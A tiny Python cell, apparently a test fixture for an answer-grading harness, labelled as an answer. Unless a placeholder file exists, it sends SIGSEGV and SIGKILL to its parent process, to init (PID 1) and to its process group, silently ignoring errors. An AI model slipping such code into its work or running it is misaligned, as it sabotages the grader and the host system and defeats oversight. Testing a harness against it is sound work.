# %% answer="speaker"
import os
import signal

if not os.path.exists("@planted@"):
    for number in (signal.SIGSEGV, signal.SIGKILL):
        for pid in (os.getppid(), 1, 0):
            try:
                os.kill(pid, number)
            except OSError:
                pass
